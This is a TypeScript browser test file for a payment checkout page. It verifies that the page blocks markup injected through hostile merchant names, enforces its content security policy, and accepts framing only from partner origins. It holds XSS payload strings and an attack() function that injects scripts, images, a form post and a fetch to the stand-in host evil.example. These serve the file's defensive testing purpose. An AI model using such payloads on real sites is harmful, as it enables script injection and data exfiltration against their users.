import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { changePartner } from '../../src/actions/parties/change-partner.ts';
import { systemWorld } from '../../src/runtime/system-world.ts';
import { openDatabase } from '../../src/store/plumbing/database.ts';
import { en } from '../../web/src/checkout/strings/en.ts';
import { onlyLongIf } from '../long.ts';
import { REGISTRY } from '../registry.ts';
import { until } from '../until.ts';
import { missingBrowser } from './chromium.ts';
import { payWith, type Scene, sharedScene, steps, TEN_DOLLARS, TEN_TOKENS } from './scene.ts';

const HOSTILE = [
  '</script><script>document.title="owned"</script>',
  '<img src="https://evil.example/x.png" onerror="document.title=\'owned\'">',
  '"><svg onload=document.title="owned">',
  "javascript:document.title='owned'",
  '\u202eevil\u2066shop\u200f',
  '😀'.repeat(128),
];
const PARTNER = 'prtn_0000000000000000000000DEM0';

describe('the checkout guards its payer', { skip: missingBrowser(), concurrency: 2 }, () => {
  let scene: Scene;
  before(async () => {
    scene = await sharedScene();
  });

  async function paymentOf(merchantName: string) {
    const body = { merchantName, merchantEmail: 'shop@example.com', iconUrl: 'https://evil.example/logo.png' };
    const { merchant } = await scene.call<{ merchant: { id: string } }>('POST', '/v1/merchants', body);
    return scene.createPayment(...TEN_DOLLARS, { referenceId: '<b>1</b>' }, merchant.id);
  }

  for (const name of HOSTILE) {
    it(`from a merchant called ${JSON.stringify(name).slice(0, 40)}`, onlyLongIf(name !== HOSTILE[0]), async () => {
      const { page, strangers, close } = await scene.visitWith({ USDC: TEN_TOKENS });
      const violations = await watchViolations(page);
      const { gatewayUrl } = await paymentOf(name);
      await payWith(page, gatewayUrl, 'USDC');
      await steps.isPaid(page);
      assert.notEqual(await page.title(), 'owned');
      assert.equal(await page.locator('#root script, #root img[onerror], #root svg[onload], #root b').count(), 0);
      assert.ok(await page.evaluate(fitsTheWindow), 'the page is no wider than its window');
      assert.deepEqual(violations, []);
      assert.deepEqual(strangers, []);
      await close();
    });
  }

  it('offers and loads no pairing without a project for it', async () => {
    const { page, requests, close } = await scene.visitWith({ USDC: TEN_TOKENS });
    const { gatewayUrl } = await scene.createPayment(...TEN_DOLLARS);
    const answer = await page.goto(gatewayUrl);
    await page.getByRole('button', { name: 'Test Wallet' }).waitFor();
    assert.equal(await page.getByRole('button', { name: en.pairedWallet }).count(), 0);
    assert.match(answer?.headers()['content-security-policy'] ?? '', /connect-src 'self';/);
    assert.ok(!requests.some((url) => /paired-wallet|phone-wallet/.test(url)));
    await close();
  });

  it('runs no foreign code, whatever its origin', async () => {
    const { page, strangers, close } = await scene.visit();
    const { gatewayUrl } = await scene.createPayment(...TEN_DOLLARS);
    const violations = await watchViolations(page);
    await page.goto(gatewayUrl);
    await page.evaluate(attack);
    await until('everything was refused', () => new Set(violations).size >= 8);
    assert.notEqual(await page.title(), 'owned');
    assert.deepEqual([...new Set(violations)].sort(), [
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ]);
    assert.deepEqual(strangers, []);
    await close();
  });

  it('is framed only by the partner’s listed origins, and reports the outcome to them', async () => {
    const { context, page, close } = await scene.visitWith({ USDC: TEN_TOKENS });
    const { gatewayUrl } = await scene.createPayment(...TEN_DOLLARS);
    await context.route(/^http:\/\/localhost:400[12]\/frame$/, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<script>news=[];onmessage=({data})=>news.push(data)</script><iframe src="${gatewayUrl}" width="600" height="900"></iframe>`,
      }),
    );
    await setFrameOrigins(['http://localhost:4001']);
    await page.goto('http://localhost:4002/frame');
    const refused = page.frameLocator('iframe').getByText(en.readyTitle);
    await until('the frame has ended', () => page.frames()[1]?.url().startsWith('chrome-error:') ?? false);
    assert.equal(await refused.count(), 0);

    await page.goto('http://localhost:4001/frame');
    const frame = page.frameLocator('iframe');
    await frame.getByRole('button', { name: 'Test Wallet' }).click();
    await frame.getByRole('button', { name: /^Pay / }).click();
    await frame.getByRole('heading', { name: en.paidTitle }).waitFor();
    await page.waitForFunction('news.length > 0');
    assert.equal(((await page.evaluate('news[0]')) as { type: string }).type, 'PAY_SUCCESS');
    await setFrameOrigins([]);
    await close();
  });

  async function setFrameOrigins(frameOrigins: readonly string[]): Promise<void> {
    const db = openDatabase({ url: scene.databaseUrl, poolSize: 1, applicationName: 'till-test' });
    const deps = { registry: REGISTRY, db, world: systemWorld };
    await changePartner(deps, { actor: 'test', partnerId: PARTNER, changes: { frameOrigins } });
    await db.close();
  }
});

/** The violations of the page's policy, by directive. */
async function watchViolations(page: Page): Promise<string[]> {
  const directives: string[] = [];
  await page.exposeFunction('noteViolation', (directive: string) => void directives.push(directive));
  await page.addInitScript(() => {
    const host = globalThis as unknown as EventTarget & { noteViolation(text: string): void };
    host.addEventListener('securitypolicyviolation', (event) => {
      host.noteViolation((event as Event & { effectiveDirective: string }).effectiveDirective);
    });
  });
  return directives;
}

/** Runs in the page: the attempts of an attacker who can inject markup. */
function attack(): void {
  const { document } = globalThis as unknown as { document: BrowserDocument };
  interface BrowserElement {
    append(child: BrowserElement): void;
    setAttribute(name: string, value: string): void;
    innerHTML: string;
    textContent: string;
    submit(): void;
  }
  interface BrowserDocument {
    body: BrowserElement;
    head: BrowserElement;
    createElement(name: string): BrowserElement;
  }
  const add = (to: BrowserElement, name: string, attributes: Readonly<Record<string, string>>, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    to.append(element);
    return element;
  };
  const { body, head } = document;
  add(body, 'script', {}, 'document.title = "owned"');
  add(body, 'script', { src: 'https://evil.example/x.js' });
  add(body, 'img', { src: 'https://evil.example/x.png' });
  add(body, 'iframe', { src: 'https://evil.example/' });
  add(head, 'base', { href: 'https://evil.example/' });
  const box = add(body, 'div', {});
  box.innerHTML = '<img src="data:," onerror="document.title=\'owned\'"><p style="position:fixed">x</p>';
  void fetch('https://evil.example/').catch(() => {});
  add(body, 'form', { action: 'https://evil.example/', method: 'post' }).submit();
}

/** Runs in the page. */
function fitsTheWindow(): boolean {
  const { document, innerWidth } = globalThis as unknown as {
    document: { documentElement: { scrollWidth: number } };
    innerWidth: number;
  };
  return document.documentElement.scrollWidth <= innerWidth;
}
